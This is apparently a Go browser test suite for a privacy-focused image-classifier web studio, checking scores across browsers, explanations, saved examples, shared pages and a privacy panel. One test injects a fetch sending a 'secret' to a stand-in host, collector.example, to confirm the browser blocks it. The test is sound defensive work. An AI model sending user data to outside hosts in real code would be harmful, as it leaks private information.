//go:build !js

package browsers_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/deepemd/deepemd/core/network/resnet12s"
	"github.com/deepemd/deepemd/internal/browsertest/webdriver"
	"github.com/deepemd/deepemd/web/internal/studiotest"
)

// apart is the maximum difference of scores between browsers. They run the same instructions,
// unless one lacks relaxed SIMD.
const apart = 1e-6

// fromNative is the maximum difference from native code, which sums in another order.
const fromNative = 1e-4

// A complete visit: teach, ask, explain, save, share, and ask the shared page.
func TestPictures(t *testing.T) {
	long(t)
	var classes []class
	var queries []string
	for i, thing := range studiotest.Things {
		classes = append(classes, class{thing.Name, studiotest.Inputs(t, thing.Wordnet, 0, 2+i)})
		queries = append(queries, studiotest.Inputs(t, thing.Wordnet, 20, 22)...)
	}
	want := natively(t, resnet12s.Weights(), nil, classes, queries)
	var first reference
	inEach(t, func(t *testing.T, kind webdriver.Kind) {
		s := open(t, kind, "/")
		s.ready()
		s.lacks()
		s.teach(classes)
		var got []scores
		for _, query := range queries {
			got = append(got, s.ask(query))
		}
		sameScores(t, kind.Name, got, "native code", want, fromNative)
		first.compare(t, kind, got)

		s.why()
		s.Shot("studio")
		s.kept("/", classes)
		sameScores(t, kind.Name+", visited again,", []scores{s.ask(queries[0])}, "the first visit", got[:1], apart)
		s.showsWhatLeaves()
		page := s.share()
		s.nothingLeft("collector.example")
		sameScores(t, "the shared page in "+kind.Name, s.shared(page, queries), "the studio", got, fromNative)
		s.Shot("shared")
		s.Quiet("collector.example")
	})
}

// why fails the test unless the page explains the answer, in a drawing and in a comparison.
func (s *studio) why() {
	s.t.Helper()
	s.Run(`if (document.querySelector(".why.folded")) document.querySelector("#show-why").click()`)
	s.WaitFor(`document.querySelector(".why .words")?.innerText.length > 10`)
	s.WaitFor(`(() => {
		const canvas = document.querySelector(".why canvas");
		const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
		return new Set(new Uint32Array(data.buffer)).size > 100;
	})()`)
	s.Click("#closer")
	s.WaitFor(`document.querySelector("#comparison[open] .figures")`)
	s.Shot("why")
	s.Click("#comparison header button")
	s.WaitFor(`!document.querySelector("#comparison[open]")`)
}

// kept opens a page again and fails the test unless it has its examples.
func (s *studio) kept(path string, classes []class) {
	s.t.Helper()
	s.WaitFor(`document.querySelector("#kept.saved")?.innerText.includes("Saved")`)
	s.Open("about:blank") // changing only the fragment does not load the page
	s.Open(s.server.URL + path)
	s.ready()
	for i, c := range classes {
		s.WaitFor(fmt.Sprintf(`document.querySelector(%q)?.value === %q`, studiotest.Card(i+1)+" input.name", c.name))
		s.WaitCount(studiotest.Card(i+1)+" .thumbnail", len(c.files))
	}
	s.WaitFor(`document.querySelector("#kept:is(.saved, .unsaved)") && !document.querySelector("#kept").innerText.includes("Opening")`)
}

// showsWhatLeaves fails the test unless the page reports that nothing left, and, after a script
// tries to send something, that the browser blocked it.
func (s *studio) showsWhatLeaves() {
	s.t.Helper()
	s.Click("#open-privacy")
	s.WaitFor(`document.querySelector("#privacy[open] .left")?.innerText.startsWith("Nothing")`)
	s.Run(`fetch("https://collector.example/?thing=secret").catch(() => {})`)
	s.WaitFor(`document.querySelector("#privacy .left li")?.innerText.includes("https://collector.example/")`)
	if got := s.Text("#privacy .left"); !strings.HasPrefix(got, "Nothing") || !strings.Contains(got, "blocked by the browser") {
		s.t.Errorf("after a try the page says %q", got)
	}
	s.Shot("privacy")
	s.Click("#privacy header button")
	s.WaitFor(`!document.querySelector("#privacy[open]")`)
}

// share saves the shared page.
func (s *studio) share() (path string) {
	s.t.Helper()
	s.Click("#open-projects")
	s.WaitFor(`document.querySelector("#projects[open]")`)
	s.Click("#share-page")
	path = s.Saved(".html")
	s.WaitFor(`!document.querySelector("#share-page").disabled`)
	return path
}

// shared opens a shared page from disk, and asks it.
func (s *studio) shared(page string, queries []string) (all []scores) {
	s.t.Helper()
	s.Open("file://" + page)
	s.WaitFor(`document.querySelector(".status.trouble") || document.querySelector(".status")?.innerText === "Ready"`)
	if said := s.Text(".status"); said != "Ready" {
		s.t.Fatalf("the shared page says %q", said)
	}
	for _, query := range queries {
		s.Run(`for (const bar of document.querySelectorAll(".fill")) bar.removeAttribute("aria-valuenow")`)
		s.Choose("#picture", query)
		s.WaitFor(`[...document.querySelectorAll(".class .fill")].every((bar) => bar.getAttribute("aria-valuenow"))`)
		all = append(all, webdriver.Eval[scores](s.Page, `Object.fromEntries(Array.from(document.querySelectorAll(".class"), (c) =>
			[c.querySelector(".name").innerText, Number(c.querySelector(".fill").getAttribute("aria-valuenow"))]))`))
	}
	return all
}
